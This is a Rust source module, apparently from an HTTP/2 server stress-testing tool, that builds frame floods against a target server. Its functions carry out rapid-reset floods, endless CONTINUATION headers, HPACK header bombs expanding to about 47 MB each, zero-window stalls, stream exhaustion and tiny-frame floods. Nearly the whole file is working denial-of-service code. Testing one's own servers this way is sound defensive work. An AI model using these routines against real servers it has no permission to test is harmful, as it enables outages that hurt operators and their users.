//! Floods of HTTP/2 frames, and streams that do not end.

use crate::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, SETTINGS, Wire, block, data, frame, get, headers, integer, post,
    reset, setting, window_update,
};
use crate::target::Target;

const INITIAL_WINDOW_SIZE: u16 = 4;

pub(crate) fn open(target: &Target, settings: &[u8]) -> Wire {
    Wire::open(&target.http2, target.patience, settings).unwrap()
}

/// Sends `pieces` until the server closes, stops reading or all are sent. Nothing is read, so that what the server has to say must wait.
fn flood(target: &Target, settings: &[u8], pieces: impl Iterator<Item = Vec<u8>>) -> Wire {
    let mut wire = open(target, settings);
    let mut pieces = pieces.peekable();
    while pieces.peek().is_some() {
        let many: Vec<u8> = pieces.by_ref().take(256).flatten().collect();
        if wire.send(&many).is_err() {
            break;
        }
    }
    wire
}

fn stream(number: u32) -> u32 {
    2 * number + 1
}

/// Connections that say no more than HTTP/2 asks for.
pub(crate) fn idle(target: &Target, count: usize) -> Vec<Wire> {
    (0..count).map(|_| open(target, &[])).collect()
}

pub(crate) fn rapid_resets(target: &Target) -> Wire {
    flood(target, &[], (0..20_000).map(|i| [headers(stream(i), END_STREAM, &get("/small")), reset(stream(i))].concat()))
}

/// Each stream is reset in the middle of its body.
pub(crate) fn rapid_resets_of_bodies(target: &Target, path: &str) -> Wire {
    flood(target, &[], (0..20_000).map(|i| [headers(stream(i), 0, &post(path)), data(stream(i), 0, b"{"), reset(stream(i))].concat()))
}

/// An increment of nothing is a mistake on the stream, which the server has to reset (RFC 9113 section 6.9).
pub(crate) fn resets_by_provocation(target: &Target) -> Wire {
    flood(target, &[], (0..5_000).map(|i| [headers(stream(i), 0, &post("/small")), window_update(stream(i), 0)].concat()))
}

/// A head in pieces without a last one, each with a field of `size` bytes, or with nothing.
pub(crate) fn head_without_end(target: &Target, size: usize) -> Wire {
    let piece = if size == 0 { Vec::new() } else { block(&[(b"x", &vec![b'y'; size])]) };
    let first = frame(HEADERS, END_STREAM, 1, &block(&get("/small")));
    flood(target, &[], std::iter::once(first).chain((0..50_000).map(|_| frame(CONTINUATION, 0, 1, &piece))))
}

/// One frame of each kind that belongs to no stream or to none that is open, by its name.
pub(crate) fn lone_frames() -> [(&'static str, Vec<u8>); 6] {
    [
        ("SETTINGS", frame(SETTINGS, 0, 0, &setting(3, 100))),
        ("PING", frame(PING, 0, 0, b"12345678")),
        ("acknowledged SETTINGS", frame(SETTINGS, ACK, 0, &[])),
        ("WINDOW_UPDATE", window_update(0, 1)),
        ("PRIORITY", frame(2, 0, 1, &[0, 0, 0, 3, 16])),
        ("frames of no known kind", frame(0xbe, 0, 0, &[0; 100])),
    ]
}

pub(crate) fn again_and_again(target: &Target, piece: &[u8]) -> Wire {
    flood(target, &[], (0..100_000).map(|_| piece.to_vec()))
}

/// Heads that are small on the wire and would be 47 MB each: a field of 3,900 bytes enters the table (RFC 7541 section 6.2.1), and then is
/// named again and again by one byte.
pub(crate) fn header_bombs(target: &Target, count: usize) -> Vec<Wire> {
    let mut bomb = block(&get("/small"));
    bomb.push(0x40);
    integer(&mut bomb, 7, 0, 1);
    bomb.push(b'x');
    integer(&mut bomb, 7, 0, 3_900);
    bomb.extend([b'y'; 3_900]);
    bomb.extend([0x80 | 62; 12_000]);
    let bomb = frame(HEADERS, END_STREAM | END_HEADERS, 1, &bomb);
    (0..count).map(|_| flood(target, &[], std::iter::once(bomb.clone()))).collect()
}

/// Streams whose bodies never begin, far more than may be open.
pub(crate) fn streams_without_end(target: &Target, path: &str) -> Wire {
    flood(target, &[], (0..5_000).map(|i| headers(stream(i), 0, &post(path))))
}

/// As many streams as may be open, whose bodies begin and stop.
pub(crate) fn stopped_streams(target: &Target) -> Wire {
    flood(target, &[], (0..100).map(|i| [headers(stream(i), 0, &post("/small")), data(stream(i), 0, b"x")].concat()))
}

/// Ask, and give no room for the answers.
pub(crate) fn zero_windows(target: &Target, path: &str) -> Wire {
    flood(target, &setting(INITIAL_WINDOW_SIZE, 0), (0..50).map(|i| headers(stream(i), END_STREAM, &get(path))))
}

/// One body in many pieces of nothing or of little.
pub(crate) fn small_pieces(target: &Target, path: &str, piece: &[u8]) -> Wire {
    let head = headers(1, 0, &post(path));
    flood(target, &[], std::iter::once(head).chain((0..100_000).map(|_| frame(DATA, 0, 1, piece))))
}
